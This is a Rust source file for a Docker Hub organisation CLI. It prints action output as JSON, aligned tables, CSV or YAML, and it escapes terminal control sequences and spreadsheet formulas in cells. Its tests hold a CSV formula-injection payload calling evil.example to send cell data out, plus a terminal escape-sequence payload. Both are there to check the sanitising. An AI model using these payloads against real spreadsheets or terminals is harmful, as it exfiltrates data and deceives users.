//! How an action's output reaches the user: JSON as the action wrote it (for programs), pretty JSON,
//! a table, CSV (for people and spreadsheets), or YAML (a document to edit, [`super::document`]).
//! A plan (`changes` and `summary`) reads as `+`/`~`/`-` lines on a terminal or as a table.
//!
//! JSON output is the action's own text, never re-parsed and re-serialized, so an output of any
//! depth reaches the user unchanged. Tables and CSV find the output's list generically: the first
//! top-level field (in the order the action wrote them) that holds an array of objects — `members`,
//! `teams`, `invites`, `events`, `rows` — or the field `--section` names, and take as columns the
//! fields of those objects that hold scalars (or lists of scalars, joined with ", "), nested
//! objects flattened (`data.member`). A write shows its message and plan; any other output without
//! a list shows its fields as key/value lines (one record in CSV). A table fits the terminal
//! (cells cut with "…"), and leaves out id-like columns and columns empty in every row unless
//! `--columns` names them. Nothing here fails on an unexpected shape: it falls back to the text as
//! the action wrote it.
//!
//! Table and CSV cells hold text from Docker Hub (names people chose themselves), so each is made
//! safe first ([`super::safe_text`]): no escape sequence or control character reaches a terminal,
//! and no cell starts a spreadsheet formula.

use std::io::{self, Write};

use clap::ValueEnum;
use indexmap::IndexMap;
use serde_json::Value;
use serde_json::value::RawValue;

use super::exit::Failure;
use super::safe_text::{csv_cell, terminal_line};

/// How to print an action's output.
#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub enum Format {
    /// The action's JSON on one line, exactly as it wrote it.
    Json,
    /// Aligned columns for the output's list (or its fields as name/value rows).
    Table,
    /// CSV with a header row for the output's list (or its fields as one row).
    Csv,
    /// YAML: an output's `document` when it has one (export-org), else the whole output.
    Yaml,
}

/// The widest a table cell gets before it is cut with "…".
const MAX_CELL: usize = 48;

/// The narrowest a column is cut to when a table must fit the terminal.
const MIN_CELL: usize = 6;

/// How far the widest columns are cut before columns are left out to fit the terminal.
const READABLE_CELL: usize = 20;

/// A table: column names and rows of cells.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Table {
    /// Column names (the objects' field names; nested ones as `data.member`).
    pub columns: Vec<String>,
    /// One row per object, one cell per column.
    pub rows: Vec<Vec<String>>,
}

/// How the output is to be shown, besides its format.
#[derive(Debug, Clone, Default)]
pub struct Shown {
    /// Standard output is a terminal (the default format depends on it).
    pub on_terminal: bool,
    /// The action is a listing (a table by default on a terminal).
    pub listing: bool,
    /// The width tables fit into (`COLUMNS`, or the terminal's); `None`: no limit.
    pub width: Option<usize>,
    /// `--columns`: only these, in this order.
    pub columns: Option<Vec<String>>,
    /// `--section`: this array field of the output instead of its first list.
    pub section: Option<String>,
    /// Colour may be used (a terminal, no `NO_COLOR`): plans colour their `+`, `~`, `-` lines.
    pub colour: bool,
}

/// The width tables fit into: `COLUMNS` when set to a number, else the terminal's width when
/// standard output is one; `None` (no limit) otherwise.
pub fn terminal_width(on_terminal: bool) -> Option<usize> {
    if let Some(columns) = std::env::var("COLUMNS").ok().and_then(|c| c.trim().parse::<usize>().ok()) {
        return (columns > 0).then_some(columns);
    }
    if !on_terminal {
        return None;
    }
    rustix::termios::tcgetwinsize(std::io::stdout()).ok().map(|size| usize::from(size.ws_col)).filter(|w| *w > 0)
}

/// The output's list as a table, if it has one: the first top-level field holding an array of
/// objects. `None` when there is none (or the text is not a JSON object).
pub fn listing(output: &str) -> Option<Table> {
    let fields: IndexMap<String, &RawValue> = serde_json::from_str(output).ok()?;
    fields.values().find_map(|raw| objects_table(raw.get()))
}

/// `text` (a JSON array of objects) as a table; `None` for anything else.
fn objects_table(text: &str) -> Option<Table> {
    if !text.trim_start().starts_with('[') {
        return None;
    }
    serde_json::from_str::<Vec<IndexMap<String, Value>>>(text).ok().map(|objects| table_of(&objects))
}

/// `text` (a JSON array) as a table: objects by their (flattened) fields, scalars as one `value`
/// column; `None` when it is not an array, or an array of arrays.
fn array_table(text: &str) -> Option<Table> {
    if let Some(table) = objects_table(text) {
        return Some(table);
    }
    if !text.trim_start().starts_with('[') {
        return None;
    }
    let values: Vec<Value> = serde_json::from_str(text).ok()?;
    let rows: Option<Vec<Vec<String>>> = values.iter().map(|v| cell(v).map(|c| vec![c])).collect();
    Some(Table { columns: vec!["value".to_string()], rows: rows? })
}

/// One array field of the output as a table: `name` is a top-level field (or a dotted path,
/// `inactive.members`); an object there shows its first list. An unknown name is a usage failure
/// that lists the sections the output has.
pub fn section(output: &str, name: &str) -> Result<Table, Failure> {
    let found = section_text(output, name);
    if let Some(table) = found.as_deref().and_then(|text| array_table(text).or_else(|| listing(text))) {
        return Ok(table);
    }
    let fields: IndexMap<String, &RawValue> = serde_json::from_str(output).unwrap_or_default();
    let sections: Vec<&str> = fields
        .iter()
        .filter(|(_, raw)| array_table(raw.get()).is_some() || listing(raw.get()).is_some())
        .map(|(key, _)| key.as_str())
        .collect();
    Err(Failure::usage(format!(
        "--section {name}: the output has no list there; its sections: {}",
        if sections.is_empty() { "none".to_string() } else { sections.join(", ") }
    )))
}

/// The JSON text at the dotted path `name` of `output`.
fn section_text(output: &str, name: &str) -> Option<String> {
    let mut text = output.to_string();
    for key in name.split('.') {
        let fields: IndexMap<String, &RawValue> = serde_json::from_str(&text).ok()?;
        text = fields.get(key)?.get().to_string();
    }
    Some(text)
}

/// The output's top-level fields as a one-row table, nested objects flattened (`member.email`),
/// `meta` left out (for outputs that are not listings).
pub fn record(output: &str) -> Option<Table> {
    let mut fields: IndexMap<String, Value> = serde_json::from_str(output).ok()?;
    fields.shift_remove("meta");
    Some(table_of(std::slice::from_ref(&fields)))
}

fn table_of(objects: &[IndexMap<String, Value>]) -> Table {
    let flat: Vec<IndexMap<String, String>> = objects.iter().map(flatten).collect();
    let mut columns: Vec<String> = Vec::new();
    for object in &flat {
        for key in object.keys() {
            if !columns.contains(key) {
                columns.push(key.clone());
            }
        }
    }
    let rows = flat.iter().map(|o| columns.iter().map(|c| o.get(c).cloned().unwrap_or_default()).collect()).collect();
    Table { columns, rows }
}

/// An object's cells: scalars and lists of scalars under their names, nested objects' under
/// `outer.inner`; lists of objects left out (`--section` shows them).
fn flatten(object: &IndexMap<String, Value>) -> IndexMap<String, String> {
    fn walk(prefix: &str, value: &Value, out: &mut IndexMap<String, String>) {
        match value {
            Value::Object(fields) => {
                for (key, value) in fields {
                    walk(&format!("{prefix}.{key}"), value, out);
                }
            }
            other => {
                if let Some(cell) = cell(other) {
                    out.insert(prefix.to_string(), cell);
                }
            }
        }
    }
    let mut out = IndexMap::new();
    for (key, value) in object {
        walk(key, value, &mut out);
    }
    out
}

/// A value as one cell: scalars as text, null as empty, a list of scalars joined with ", ";
/// `None` for objects and lists of objects (not a column).
fn cell(value: &Value) -> Option<String> {
    match value {
        Value::Null => Some(String::new()),
        Value::String(s) => Some(s.clone()),
        Value::Bool(_) | Value::Number(_) => Some(value.to_string()),
        Value::Array(items) => {
            let cells: Option<Vec<String>> =
                items.iter().map(|v| if v.is_array() || v.is_object() { None } else { cell(v) }).collect();
            cells.map(|c| c.join(", "))
        }
        Value::Object(_) => None,
    }
}

/// Whether a column holds ids (`id`, `uuid`, `team_id`, `member.id`): long, and hidden in tables
/// unless `--columns` names it.
fn id_like(column: &str) -> bool {
    let last = column.rsplit('.').next().unwrap_or(column);
    last == "id" || last == "uuid" || last.ends_with("_id") || last.ends_with("_uuid")
}

/// `table` with only the columns `wanted` names, in that order; a name the table does not have is
/// a usage failure listing the ones it has.
fn pick(table: &Table, wanted: &[String]) -> Result<Table, Failure> {
    let mut indexes = Vec::new();
    for name in wanted {
        let name = name.trim().to_lowercase();
        match table.columns.iter().position(|c| c.to_lowercase() == name) {
            Some(index) => indexes.push(index),
            None => {
                return Err(Failure::usage(format!(
                    "--columns: no column \"{name}\"; the columns are: {}",
                    table.columns.join(", ")
                )));
            }
        }
    }
    Ok(Table {
        columns: indexes.iter().map(|i| table.columns[*i].clone()).collect(),
        rows: table.rows.iter().map(|r| indexes.iter().map(|i| r[*i].clone()).collect()).collect(),
    })
}

/// The columns a table shows by default: id-like ones and those empty in every row left out
/// (all of them kept when that would leave none).
fn everyday(table: &Table) -> Table {
    let keep: Vec<usize> = (0..table.columns.len())
        .filter(|i| !id_like(&table.columns[*i]) && table.rows.iter().any(|r| !r[*i].is_empty()))
        .collect();
    if keep.is_empty() {
        return table.clone();
    }
    Table {
        columns: keep.iter().map(|i| table.columns[*i].clone()).collect(),
        rows: table.rows.iter().map(|r| keep.iter().map(|i| r[*i].clone()).collect()).collect(),
    }
}

/// `text` for one line, cut to `width` characters with "…".
fn cut(text: &str, width: usize) -> String {
    let flat = terminal_line(text);
    if flat.chars().count() > width {
        flat.chars().take(width.saturating_sub(1)).chain(['…']).collect()
    } else {
        flat
    }
}

/// Writes `table` as aligned columns with an upper-case header; cells are kept on one line without
/// escape sequences or control characters ([`terminal_line`]) and cut at [`MAX_CELL`] characters.
pub fn write_table(out: &mut dyn Write, table: &Table) -> io::Result<()> {
    write_fitted(out, table, None)
}

/// [`write_table`] within `width` characters: the widest columns are cut first (to
/// [`READABLE_CELL`]), then columns that still do not fit are left out from the right (named on
/// standard error), then the rest is cut further (a header is never cut below [`MIN_CELL`] or its
/// own length).
pub fn write_fitted(out: &mut dyn Write, table: &Table, width: Option<usize>) -> io::Result<()> {
    let header: Vec<String> = table.columns.iter().map(|c| terminal_line(&c.to_uppercase())).collect();
    let rows: Vec<Vec<String>> = table.rows.iter().map(|r| r.iter().map(|c| terminal_line(c)).collect()).collect();
    let mut widths: Vec<usize> = header.iter().map(|h| h.chars().count().min(MAX_CELL)).collect();
    for row in &rows {
        for (width, cell) in widths.iter_mut().zip(row) {
            *width = (*width).max(cell.chars().count().min(MAX_CELL));
        }
    }
    let mut shown = widths.len();
    if let Some(limit) = width {
        let total =
            |widths: &[usize], shown: usize| widths[..shown].iter().sum::<usize>() + 2 * shown.saturating_sub(1);
        // The widest columns are cut to READABLE_CELL first, then columns are left out from the
        // right, then what is left is cut further (never a header below MIN_CELL).
        let floors: Vec<usize> = header.iter().map(|h| h.chars().count().max(MIN_CELL)).collect();
        for floor in [READABLE_CELL, 0] {
            loop {
                if total(&widths, shown) <= limit {
                    break;
                }
                let widest = (0..shown).filter(|i| widths[*i] > floor.max(floors[*i])).max_by_key(|i| widths[*i]);
                match widest {
                    Some(i) => widths[i] -= 1,
                    None if floor > 0 && shown > 1 => shown -= 1,
                    None => break,
                }
            }
        }
        if shown < widths.len() {
            super::eprintln(&format!(
                "(left out to fit {limit} columns: {}; --columns picks what to show)",
                table.columns[shown..].join(", ")
            ));
        }
    }
    for row in std::iter::once(&header).chain(&rows) {
        let mut line = String::new();
        for (i, (cell, width)) in row.iter().zip(&widths).take(shown).enumerate() {
            let cell = cut(cell, *width);
            line.push_str(&cell);
            if i + 1 < shown {
                line.extend(std::iter::repeat_n(' ', width - cell.chars().count() + 2));
            }
        }
        writeln!(out, "{}", line.trim_end())?;
    }
    Ok(())
}

/// Writes `fields` (one object) as `name  value` lines, nested fields flattened (`member.email`),
/// lists of objects as their length and the `--section` that shows them, `meta` left out.
fn write_key_values(out: &mut dyn Write, fields: &IndexMap<String, Value>, width: Option<usize>) -> io::Result<()> {
    let mut lines: Vec<(String, String)> = Vec::new();
    for (key, value) in fields {
        if key == "meta" {
            continue;
        }
        match value {
            Value::Array(items) if items.iter().any(|i| i.is_object() || i.is_array()) => {
                lines.push((key.clone(), format!("{} items (--section {key})", items.len())));
            }
            _ => {
                let one = IndexMap::from([(key.clone(), value.clone())]);
                lines.extend(flatten(&one));
            }
        }
    }
    let key_width = lines.iter().map(|(k, _)| terminal_line(k).chars().count()).max().unwrap_or(0);
    for (key, value) in lines {
        let key = terminal_line(&key);
        let room = width.map_or(usize::MAX, |w| w.saturating_sub(key_width + 2).max(MIN_CELL));
        let line = format!("{key}{}  {}", " ".repeat(key_width - key.chars().count()), cut(&value, room));
        writeln!(out, "{}", line.trim_end())?;
    }
    Ok(())
}

/// Writes `table` as CSV: a header row, then one record per row, every cell through [`csv_cell`]
/// (no control characters; a would-be formula starts with `'`), quoted where CSV needs it.
pub fn write_csv(out: &mut dyn Write, table: &Table) -> io::Result<()> {
    let mut writer = csv::Writer::from_writer(out);
    writer.write_record(table.columns.iter().map(|c| csv_cell(c))).map_err(csv_error)?;
    for row in &table.rows {
        writer.write_record(row.iter().map(|c| csv_cell(c))).map_err(csv_error)?;
    }
    writer.flush()
}

fn csv_error(error: csv::Error) -> io::Error {
    match error.into_kind() {
        csv::ErrorKind::Io(error) => error,
        other => io::Error::other(format!("{other:?}")),
    }
}

/// `output` indented for reading; the text unchanged when it cannot be parsed within serde_json's
/// nesting limit (an output is never lost to its depth).
pub fn pretty(output: &str) -> String {
    serde_json::from_str::<Value>(output)
        .ok()
        .and_then(|value| serde_json::to_string_pretty(&value).ok())
        .unwrap_or_else(|| output.to_string())
}

/// Whether the output is a write's report (its `message` and `plan`).
fn is_write(fields: &IndexMap<String, Value>) -> bool {
    fields.get("message").is_some_and(Value::is_string) && fields.get("plan").is_some_and(Value::is_array)
}

/// Prints an action's output in `format`, or the default when the user chose none: on a
/// terminal, a table for a listing, a section or a write, the Markdown form of a report that has
/// one; otherwise indented JSON. Returns the format used (`None`: indented JSON or Markdown).
///
/// A table or CSV shows `--section`, or the output's list, or a write's message and plan, or one
/// object's fields (key/value lines in a table, one record in CSV). A table fits `shown.width`,
/// leaves out id-like and always-empty columns unless `--columns` names them.
pub fn write_output(
    out: &mut dyn Write,
    output: &str,
    format: Option<Format>,
    shown: &Shown,
) -> anyhow::Result<Option<Format>> {
    if format == Some(Format::Yaml) && shown.section.is_none() {
        super::document::write_yaml(out, output)?;
        return Ok(Some(Format::Yaml));
    }
    let fields: Option<IndexMap<String, Value>> = serde_json::from_str(output).ok();
    let write = fields.as_ref().is_some_and(is_write);
    // A plan (plan-org, apply-org) reads as +/~/- lines, on a terminal or as a table.
    let table_view = format == Some(Format::Table) || (format.is_none() && shown.on_terminal);
    if table_view && shown.section.is_none() && shown.columns.is_none() {
        let value: Value = serde_json::from_str(output).unwrap_or(Value::Null);
        if super::document::is_plan(&value) {
            super::document::write_plan(out, &value, shown.colour)?;
            return Ok(Some(Format::Table));
        }
    }
    let markdown = fields.as_ref().and_then(|f| f.get("markdown")).and_then(Value::as_str);
    let format = format.or_else(|| {
        let table = shown.section.is_some() || shown.listing || write;
        (shown.columns.is_some() || (shown.on_terminal && table)).then_some(Format::Table)
    });
    match (format, &shown.section) {
        (None, None) if shown.on_terminal && markdown.is_some() => {
            writeln!(out, "{}", super::safe_text::terminal_text(markdown.unwrap_or_default()).trim_end())?;
            return Ok(None);
        }
        (None, None) => {
            writeln!(out, "{}", pretty(output))?;
            return Ok(None);
        }
        (None, Some(name)) => {
            let text = section_text(output, name)
                .ok_or_else(|| section(output, name).err().unwrap_or_else(|| Failure::usage("")))?;
            writeln!(out, "{}", pretty(&text))?;
            return Ok(None);
        }
        (Some(Format::Json), None) => {
            writeln!(out, "{}", output.trim_end())?;
            return Ok(Some(Format::Json));
        }
        (Some(Format::Json), Some(name)) => {
            let text = section_text(output, name)
                .ok_or_else(|| section(output, name).err().unwrap_or_else(|| Failure::usage("")))?;
            writeln!(out, "{}", text.trim())?;
            return Ok(Some(Format::Json));
        }
        (Some(Format::Yaml), Some(name)) => {
            let text = section_text(output, name)
                .ok_or_else(|| section(output, name).err().unwrap_or_else(|| Failure::usage("")))?;
            super::document::write_yaml(out, &text)?;
            return Ok(Some(Format::Yaml));
        }
        _ => {}
    }
    let tabular = format.unwrap_or(Format::Table);
    let table = match &shown.section {
        Some(name) => Some(section(output, name)?),
        None if write => None,
        None => listing(output),
    };
    let Some(table) = table else {
        let Some(fields) = fields else {
            writeln!(out, "{}", output.trim_end())?;
            return Ok(Some(tabular));
        };
        if tabular == Format::Csv {
            let record = record(output).unwrap_or(Table { columns: Vec::new(), rows: Vec::new() });
            let record = match &shown.columns {
                Some(wanted) => pick(&record, wanted)?,
                None => record,
            };
            write_csv(out, &record)?;
            return Ok(Some(tabular));
        }
        if write {
            write_report(out, &fields, shown.width)?;
        } else {
            write_key_values(out, &fields, shown.width)?;
        }
        return Ok(Some(tabular));
    };
    let table = match &shown.columns {
        Some(wanted) => pick(&table, wanted)?,
        None if tabular == Format::Table => everyday(&table),
        None => table,
    };
    match tabular {
        Format::Csv => write_csv(out, &table)?,
        _ => write_fitted(out, &table, shown.width)?,
    }
    Ok(Some(tabular))
}

/// A write's report for reading: its message, the plan (the requests sent, or in a dry run those
/// that would be), and its other fields as key/value lines.
fn write_report(out: &mut dyn Write, fields: &IndexMap<String, Value>, width: Option<usize>) -> io::Result<()> {
    let message = fields.get("message").and_then(Value::as_str).unwrap_or_default();
    writeln!(out, "{}", terminal_line(message))?;
    let steps: Vec<IndexMap<String, Value>> =
        fields.get("plan").and_then(|p| serde_json::from_value(p.clone()).ok()).unwrap_or_default();
    writeln!(out)?;
    if steps.is_empty() {
        writeln!(out, "Plan: no request to send.")?;
    } else {
        writeln!(out, "Plan:")?;
        let table = table_of(&steps);
        let keep = ["step", "method", "path", "why"].map(String::from);
        let table = pick(&table, &keep).unwrap_or(table);
        write_fitted(out, &table, width)?;
    }
    let rest: IndexMap<String, Value> = fields
        .iter()
        .filter(|(k, _)| !["message", "plan", "meta"].contains(&k.as_str()))
        .filter(|(k, v)| k.as_str() != "completed" || v.as_array().is_some_and(|a| !a.is_empty()))
        .map(|(k, v)| (k.clone(), v.clone()))
        .collect();
    writeln!(out)?;
    write_key_values(out, &rest, width)
}

/// The footer for a listing that holds only part of what there is ("10 of 320 shown; --all for
/// every page, or --page 2"), from its `count`, `returned`, `truncated` and `paging`; `None` for a
/// complete one.
pub fn partial_footer(output: &str) -> Option<String> {
    let value: Value = serde_json::from_str(output).ok()?;
    let next = value["paging"]["next_page"].as_u64();
    let truncated = value["truncated"] == true;
    if next.is_none() && !truncated {
        return None;
    }
    let returned = value["returned"].as_u64()?;
    let shown = match value["count"].as_u64() {
        Some(count) if count > returned => format!("{returned} of {count} shown"),
        _ => format!("{returned} shown, more on later pages"),
    };
    let next = next.map(|n| format!("--page {n}")).unwrap_or_else(|| "a later --page".to_string());
    Some(if truncated {
        format!("{shown}: --max-items stopped the walk; raise it, or continue with {next}")
    } else {
        format!("{shown}; --all for every page, or {next}")
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_first_array_of_objects_in_written_order_is_the_listing() {
        let output = r#"{"organization":"acme","columns":["a"],"zeta":[{"x":1}],"alpha":[{"y":2}]}"#;
        let table = listing(output).unwrap();
        assert_eq!(table.columns, ["x"]);
        assert_eq!(table.rows, [["1"]]);
    }

    #[test]
    fn columns_are_scalar_fields_in_order_lists_joined_objects_flattened() {
        let output = r#"{"members":[
            {"username":"ada","teams":["a","b"],"data":{"k":1},"is_guest":false,"email":null},
            {"username":"ken","teams":[],"data":{"k":2},"is_guest":true,"extra":"late"}]}"#;
        let table = listing(output).unwrap();
        assert_eq!(table.columns, ["username", "teams", "data.k", "is_guest", "email", "extra"]);
        assert_eq!(table.rows[0], ["ada", "a, b", "1", "false", "", ""]);
        assert_eq!(table.rows[1], ["ken", "", "2", "true", "", "late"]);
    }

    #[test]
    fn an_output_without_a_list_is_one_record_of_its_scalars() {
        assert!(listing(r#"{"removed":true,"username":"ada","meta":{}}"#).is_none());
        let table = record(r#"{"removed":true,"username":"ada","meta":{}}"#).unwrap();
        assert_eq!(table.columns, ["removed", "username"]);
        assert_eq!(table.rows, [["true", "ada"]]);
    }

    #[test]
    fn tables_align_and_cut_long_cells() {
        let table = Table {
            columns: vec!["name".into(), "note".into()],
            rows: vec![vec!["ada".into(), "x".repeat(60)], vec!["kenneth".into(), "line\nbreak".into()]],
        };
        let mut out = Vec::new();
        write_table(&mut out, &table).unwrap();
        let text = String::from_utf8(out).unwrap();
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines[0], "NAME     NOTE");
        assert_eq!(lines[1], format!("ada      {}…", "x".repeat(MAX_CELL - 1)));
        assert_eq!(lines[2], "kenneth  line break");
    }

    #[test]
    fn csv_quotes_what_needs_quoting() {
        let table =
            Table { columns: vec!["name".into(), "teams".into()], rows: vec![vec!["ada".into(), "a, b".into()]] };
        let mut out = Vec::new();
        write_csv(&mut out, &table).unwrap();
        assert_eq!(String::from_utf8(out).unwrap(), "name,teams\nada,\"a, b\"\n");
    }

    #[test]
    fn csv_cells_cannot_start_a_formula_or_hold_control_characters() {
        let formula = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;
        let table = Table {
            columns: vec!["name".into(), "note".into()],
            rows: vec![vec![formula.into(), "two\nlines\u{1b}[2J".into()], vec!["-5".into(), "@x".into()]],
        };
        let mut out = Vec::new();
        write_csv(&mut out, &table).unwrap();
        let text = String::from_utf8(out).unwrap();
        assert_eq!(
            text,
            "name,note\n\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",two lines\n-5,'@x\n"
        );
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let first = reader.records().next().unwrap().unwrap();
        assert_eq!(&first[0], format!("'{formula}"));
    }

    #[test]
    fn table_cells_lose_escape_sequences() {
        let table = Table { columns: vec!["name".into()], rows: vec![vec!["\u{1b}]0;pwned\u{7}Ada\u{1b}[2J".into()]] };
        let mut out = Vec::new();
        write_table(&mut out, &table).unwrap();
        assert_eq!(String::from_utf8(out).unwrap(), "NAME\nAda\n");
    }

    #[test]
    fn json_past_the_nesting_limit_is_printed_unchanged() {
        let deep = format!("{}{}", "[".repeat(300), "]".repeat(300));
        assert_eq!(pretty(&deep), deep);
        let mut out = Vec::new();
        write_output(&mut out, &deep, Some(Format::Table), &Shown::default()).unwrap();
        assert_eq!(String::from_utf8(out).unwrap(), format!("{deep}\n"));
    }

    fn shown_at(width: usize) -> Shown {
        Shown { width: Some(width), ..Shown::default() }
    }

    fn printed(output: &str, format: Format, shown: &Shown) -> String {
        let mut out = Vec::new();
        write_output(&mut out, output, Some(format), shown).unwrap();
        String::from_utf8(out).unwrap()
    }

    #[test]
    fn a_table_hides_ids_and_empty_columns_and_fits_its_width() {
        let output = r#"{"members":[
            {"id":"0123456789abcdef0123456789abcdef","username":"ada","note":"a long note that goes on and on and on","groups":[]},
            {"id":"fedcba9876543210fedcba9876543210","username":"kenneth","note":"short","groups":[]}]}"#;
        let text = printed(output, Format::Table, &shown_at(32));
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines[0], "USERNAME  NOTE");
        assert!(lines.iter().all(|l| l.chars().count() <= 32), "{text}");
        // Too narrow for both at a readable width: the right-hand column is left out.
        assert_eq!(printed(output, Format::Table, &shown_at(24)).lines().next(), Some("USERNAME"));
        assert!(lines[1].starts_with("ada") && lines[1].ends_with('…'), "{text}");
        let picked = printed(output, Format::Table, &Shown { columns: Some(vec!["id".into()]), ..shown_at(80) });
        assert_eq!(picked.lines().nth(1), Some("0123456789abcdef0123456789abcdef"));
    }

    #[test]
    fn a_single_object_is_key_value_lines_and_a_write_its_message_and_plan() {
        let text = printed(
            r#"{"organization":"acme","member":{"username":"ada","teams":["a","b"]},"meta":{"requests":1}}"#,
            Format::Table,
            &Shown::default(),
        );
        // Top-level fields in the action's order; a nested object's in name order (serde_json's).
        assert_eq!(text, "organization     acme\nmember.teams     a, b\nmember.username  ada\n");
        let write = r#"{"changed":true,"dry_run":true,"message":"Dry run: ada would be removed.","plan":[{"step":1,"method":"DELETE","path":"/v2/orgs/acme/members/ada","why":"remove ada"}],"completed":[]}"#;
        let text = printed(write, Format::Table, &Shown::default());
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(
            lines[..5],
            [
                "Dry run: ada would be removed.",
                "",
                "Plan:",
                "STEP  METHOD  PATH                       WHY",
                "1     DELETE  /v2/orgs/acme/members/ada  remove ada"
            ]
        );
        assert!(text.contains("changed  true"), "{text}");
        let csv = printed(write, Format::Csv, &Shown::default());
        assert_eq!(csv, "changed,dry_run,message,completed\ntrue,true,Dry run: ada would be removed.,\n");
    }

    #[test]
    fn a_section_is_any_array_field_and_an_unknown_one_lists_them() {
        let output = r#"{"inactive":{"days":90,"members":[{"username":"ada","days":120}]},"owners":{"usernames":["ada"]},"findings":[{"kind":"single_owner"}]}"#;
        assert_eq!(section(output, "inactive").unwrap().rows, [["ada", "120"]]);
        assert_eq!(section(output, "findings").unwrap().columns, ["kind"]);
        assert_eq!(
            section(output, "owners.usernames").unwrap(),
            Table { columns: vec!["value".into()], rows: vec![vec!["ada".into()]] }
        );
        let error = section(output, "nope").unwrap_err();
        assert!(error.message.contains("its sections: inactive, findings"), "{}", error.message);
    }

    #[test]
    fn a_partial_listing_has_a_footer() {
        let page = r#"{"count":320,"returned":10,"paging":{"next_page":2}}"#;
        assert_eq!(partial_footer(page).as_deref(), Some("10 of 320 shown; --all for every page, or --page 2"));
        let stopped = r#"{"truncated":true,"returned":100,"paging":{"next_page":5}}"#;
        assert!(partial_footer(stopped).unwrap().contains("--max-items stopped the walk"));
        assert_eq!(partial_footer(r#"{"count":3,"returned":3,"paging":{"next_page":null}}"#), None);
    }
}
